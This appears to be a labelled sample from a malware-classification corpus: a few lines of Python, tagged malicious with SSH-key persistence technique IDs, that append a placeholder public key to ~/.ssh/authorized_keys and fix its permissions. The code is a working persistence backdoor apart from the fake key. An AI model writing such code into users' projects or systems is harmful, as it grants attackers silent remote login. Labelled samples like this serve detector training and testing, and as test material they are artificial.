# label: malicious family=persist techniques=T1098.004,T1222.002 lines=5-6
import os
d = os.path.expanduser("~/.ssh")
os.makedirs(d, mode=0o700, exist_ok=True)
with open(os.path.join(d, "authorized_keys"), "a") as f:
    f.write("\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEpytriageCORPUS000000 root@host\n")
os.chmod(os.path.join(d, "authorized_keys"), 0o600)
